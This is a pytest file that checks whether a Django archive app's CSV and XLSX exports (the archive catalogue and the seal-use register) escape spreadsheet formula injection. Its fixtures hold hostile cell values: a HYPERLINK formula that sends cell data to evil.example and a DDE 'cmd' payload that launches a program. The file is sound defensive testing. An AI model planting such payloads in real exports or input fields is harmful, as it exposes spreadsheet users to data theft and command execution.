"""Issue 9.6: exports carry no formulas. The shared writer (core.exports) and the two exports built on it, the
archive catalogue and the seal-use register, read back as a spreadsheet program would read them."""

import csv
import datetime
import decimal
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from core import exports
from core.exports import Column, Sheet
from demo.content import make_pdf

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# One value for each way a cell may start a formula: = + - @ tab CR.
HOSTILE = [HYPERLINK, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"), newline="")))


def _xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


def _no_formula_in(data: bytes) -> None:
    """No sheet of the file holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


# --- core.exports -------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_writes_formula_like_text_with_a_leading_apostrophe(value):
    assert exports.is_formula_like(value)
    assert exports.csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("商品房买卖合同 3-1502", "商品房买卖合同 3-1502"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (True, "1"),
        (False, "0"),
        (-5, -5),
        (3.5, 3.5),
        (decimal.Decimal("-41.5"), decimal.Decimal("-41.5")),
        (datetime.date(2026, 3, 7), "2026-03-07"),
        (datetime.datetime(2026, 3, 7, 9, 30), "2026-03-07T09:30:00"),
    ],
)
def test_csv_cell_keeps_plain_text_and_typed_values(value, cell):
    assert exports.csv_cell(value) == cell


def test_csv_response_streams_a_bom_a_header_and_escaped_rows():
    columns = [Column("题名"), "件号", Column("=header")]
    rows = iter([[HYPERLINK, 12, datetime.date(2026, 1, 2)], ["\r=1+1", -3, None]])
    response = exports.csv_response("目录.csv", columns, rows)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == "attachment; filename*=UTF-8''%E7%9B%AE%E5%BD%95.csv"
    assert response["X-Content-Type-Options"] == "nosniff"
    body = _body(response)
    assert body.startswith("\ufeff".encode())
    assert _csv_rows(exports.csv_response("x.csv", columns, iter([]))) == [["题名", "件号", "'=header"]]
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["题名", "件号", "'=header"],
        ["'" + HYPERLINK, "12", "2026-01-02"],
        ["'\r=1+1", "-3", ""],
    ]


def _write(sheets) -> bytes:
    target = io.BytesIO()
    exports.write_xlsx(target, sheets)
    return target.getvalue()


def test_xlsx_writes_formula_like_text_as_string_cells():
    data = _write([Sheet("目录", ["题名"], ([value] for value in HOSTILE))])
    _no_formula_in(data)
    sheet = _xlsx(data).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}


def test_xlsx_keeps_numbers_dates_and_booleans_typed(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    aware = datetime.datetime(2026, 3, 7, 1, 30, tzinfo=datetime.UTC)
    row = [7, -3.5, decimal.Decimal("41.5"), datetime.date(2026, 3, 7), aware, True, None, "-"]
    columns = ["n", "f", "d", "date", "time", "b", "none", "text"]
    sheet = _xlsx(_write([Sheet("s", columns, [row])])).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in cells[:3]] == [7, -3.5, 41.5]
    assert {c.data_type for c in cells[:3]} == {"n"}
    assert cells[3].value == datetime.datetime(2026, 3, 7) and cells[3].number_format == "yyyy-mm-dd"
    with timezone.override("Asia/Shanghai"):
        assert cells[4].value == datetime.datetime(2026, 3, 7, 9, 30)  # local time, naive
    assert cells[4].number_format == "yyyy-mm-dd hh:mm"
    assert cells[5].value is True and cells[5].data_type == "b"
    assert cells[6].value is None
    assert cells[7].value == "-" and cells[7].data_type == "s"


def test_xlsx_sheet_layout_header_widths_formats_and_several_sheets():
    columns = [Column("档号", width=24), Column("件号", number_format="0000"), Column("@备注")]
    data = _write(
        [
            Sheet("档案目录" * 10, columns, [["Q001-HT·2026-D30-KFB-0012", 12, "x"]]),
            Sheet("月度汇总", ["月份"], [], freeze_header=False, autofilter=False),
        ]
    )
    book = _xlsx(data)
    first, second = book.worksheets
    assert first.title == ("档案目录" * 10)[:31]
    assert [c.value for c in first[1]] == ["档号", "件号", "@备注"]
    assert first["C1"].data_type == "s" and first["A1"].font.b
    assert first.freeze_panes == "A2" and first.auto_filter.ref == "A1:C2"
    assert first.column_dimensions["A"].width == 24
    assert first["B2"].value == 12 and first["B2"].number_format == "0000"
    assert second.title == "月度汇总" and second.freeze_panes is None and second.auto_filter.ref is None


def test_xlsx_replaces_control_characters_that_xml_cannot_hold():
    """A title with a vertical tab made the whole export fail (openpyxl's IllegalCharacterError)."""
    data = _write([Sheet("s\x07", ["题\x0b名", "b"], [["合同\x0b3-1502\x00", "a\tb\nc"]])])
    sheet = _xlsx(data).active
    assert sheet.title == "s\ufffd"
    assert sheet["A1"].value == "题\ufffd名"
    assert sheet["A2"].value == "合同\ufffd3-1502\ufffd"
    assert sheet["B2"].value == "a\tb\nc"


def test_xlsx_and_tabular_responses():
    sheets = [Sheet("目录", ["题名"], [[HYPERLINK]])]
    response = exports.tabular_response("xlsx", "catalogue", sheets)
    assert response["Content-Type"] == exports.XLSX_TYPE
    assert 'filename="catalogue.xlsx"' in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    data = _body(response)
    _no_formula_in(data)
    assert _xlsx(data).active["A2"].value == HYPERLINK
    sheets = [Sheet("目录", ["题名"], [[HYPERLINK]])]
    response = exports.tabular_response("csv", "catalogue", sheets)
    assert "catalogue.csv" in response["Content-Disposition"]
    assert _csv_rows(response) == [["题名"], ["'" + HYPERLINK]]


# --- the archive catalogue -----------------------------------------------------------------------------


@pytest.fixture
def hostile_records(clerk, dossier, doc_type):
    from archive import services as archive
    from docstore.services import documents as docstore

    records = []
    for n, title in enumerate(HOSTILE[:4], start=1):
        document = docstore.create_document(
            clerk,
            file=io.BytesIO(make_pdf(f"文件 {n}", ["正文"], pages=n)),
            filename=f"f{n}.pdf",
            title=title,
            doc_type=doc_type("sales_contract"),
            dossier=dossier,
        )
        records.append(
            archive.file_document(
                clerk,
                document,
                year=2026,
                responsible="\r=cmd|' /C calc'!A0",
                doc_date=datetime.date(2026, 3, n),
                note="\t=1+1",
            )
        )
    assert [r.title for r in records] == HOSTILE[:4]
    return records


def _catalogue_columns(header) -> dict:
    return {label: i for i, label in enumerate(header)}


@pytest.mark.django_db
def test_catalogue_csv_escapes_every_formula_cell(api, clerk, hostile_records):
    response = api(clerk).get("/api/v1/archive-records/?format=csv")
    assert response.status_code == 200
    header, *rows = _csv_rows(response)
    col = _catalogue_columns(header)
    by_code = {row[col["档号"]]: row for row in rows}
    for record in hostile_records:
        row = by_code[record.archival_code]
        assert row[col["题名"]] == "'" + record.title
        assert row[col["责任者"]] == "'\r=cmd|' /C calc'!A0"
        assert row[col["备注"]] == "'\t=1+1"
        assert row[col["文件日期"]] == record.doc_date.isoformat()
        assert row[col["件号"]] == f"{record.item_number:04d}"  # issue 11: 4-digit text


@pytest.mark.django_db
def test_catalogue_xlsx_has_string_cells_and_typed_numbers_and_dates(api, web, clerk, hostile_records):
    for response in (
        api(clerk).get("/api/v1/archive-records/?format=xlsx"),
        web(clerk).get("/archive/?export=xlsx"),
    ):
        assert response.status_code == 200
        data = _body(response)
        _no_formula_in(data)
        rows = list(_xlsx(data).active.iter_rows())
        col = _catalogue_columns([c.value for c in rows[0]])
        by_code = {row[col["档号"]].value: row for row in rows[1:]}
        for record in hostile_records:
            row = by_code[record.archival_code]
            for label, expected in (
                ("题名", record.title),
                ("责任者", "\r=cmd|' /C calc'!A0"),
                ("备注", "\t=1+1"),
            ):
                assert row[col[label]].value == expected and row[col[label]].data_type == "s", label
            # issue 11: 件号 is 4-digit text
            assert row[col["件号"]].value == f"{record.item_number:04d}" and row[col["件号"]].data_type == "s"
            assert row[col["年度"]].value == 2026 and row[col["页数"]].value == record.page_count
            doc_date = row[col["文件日期"]]
            assert doc_date.value == datetime.datetime.combine(record.doc_date, datetime.time())
            assert doc_date.is_date and doc_date.number_format == "yyyy-mm-dd"


# --- the seal-use register -----------------------------------------------------------------------------


@pytest.fixture
def hostile_register(clerk, manager, director, doc_type):
    """One impression whose document title, dossier, seal, requester and reason all start a formula."""
    from accounts.roles import FIELD_STAFF
    from docstore.services import documents as docstore
    from docstore.services import dossiers
    from seals import services as seals
    from seals.engine.images import draw_seal
    from tests.conftest import make_user

    requester = make_user("field-x", FIELD_STAFF, display_name="@张三")
    dossier = dossiers.create_dossier(clerk, project="-锦绣花园", building="3", unit="1502")
    document = docstore.create_document(
        clerk,
        file=io.BytesIO(make_pdf("合同", ["正文"], pages=2)),
        filename="c.pdf",
        title=HYPERLINK,
        doc_type=doc_type("sales_contract"),
        dossier=dossier,
    )
    seal = seals.register_seal(
        manager,
        name="+公章",
        kind="company",
        company="锦绣置业有限公司",
        custodian=clerk,
        image=draw_seal("锦绣置业有限公司", "", size=200),
    )
    seal = seals.change_seal_status(manager, seal, to_status="active")
    item = {"version": document.current_version, "seal": seal, "impressions": 1, "mode": "physical"}
    request = seals.create_request(requester, purpose="备案", recipient="bank", dossier=dossier, items=[item])
    request = seals.approve_request(manager, seals.submit_request(requester, request))
    request = seals.approve_request(director, request)  # 公章: the manager, then the marketing director
    seals.record_impressions(
        clerk, request.items.get(), count=2, made_on=datetime.date(2026, 3, 7), reason="=1+1 多盖一次"
    )
    return {
        "题": HYPERLINK,
        "seal": "+公章",
        "dossier": "-锦绣花园 3-1502",
        "who": "@张三",
        "why": "=1+1 多盖一次",
    }


REGISTER_TEXT = {"印章": "seal", "文件名称": "题", "案卷": "dossier", "申请人": "who", "说明": "why"}


@pytest.mark.django_db
def test_seal_register_csv_escapes_every_formula_cell(api, clerk, hostile_register):
    response = api(clerk).get("/api/v1/seal-register/?format=csv")
    assert response.status_code == 200
    header, row = _csv_rows(response)
    col = _catalogue_columns(header)
    for label, key in REGISTER_TEXT.items():
        assert row[col[label]] == "'" + hostile_register[key], label
    assert row[col["用印日期"]] == "2026-03-07" and row[col["次数"]] == "2"


@pytest.mark.django_db
def test_seal_register_xlsx_has_string_cells_and_typed_numbers_and_dates(api, web, clerk, hostile_register):
    for response in (
        api(clerk).get("/api/v1/seal-register/?format=xlsx"),
        web(clerk).get("/seals/register/?format=xlsx"),
    ):
        assert response.status_code == 200, response.status_code
        data = _body(response)
        _no_formula_in(data)
        header, row = list(_xlsx(data).worksheets[0].iter_rows())
        col = _catalogue_columns([c.value for c in header])
        for label, key in REGISTER_TEXT.items():
            cell = row[col[label]]
            assert cell.value == hostile_register[key] and cell.data_type == "s", label
        made_on = row[col["用印日期"]]
        assert made_on.value == datetime.datetime(2026, 3, 7) and made_on.is_date
        assert row[col["次数"]].value == 2 and row[col["次数"]].data_type == "n"
